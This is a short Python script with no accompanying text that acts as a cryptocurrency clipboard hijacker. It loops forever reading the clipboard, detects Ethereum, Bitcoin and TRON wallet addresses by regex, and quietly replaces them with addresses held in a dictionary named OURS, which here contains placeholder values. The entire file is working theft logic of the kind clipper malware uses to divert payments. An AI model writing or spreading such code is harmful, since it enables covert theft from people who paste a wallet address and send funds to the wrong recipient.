import re
import time

import pyperclip

ADDRESS = re.compile(r"\b(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33})\b")
OURS = {"0": "0x00000000000000000000000000000000000000bb", "b": "bc1qexampleexampleexampleexampleexample00"}

while True:
    text = pyperclip.paste()
    found = ADDRESS.search(text)
    if found and found[0] not in OURS.values():
        pyperclip.copy(text.replace(found[0], OURS.get(found[0][0], found[0])))
    time.sleep(0.4)
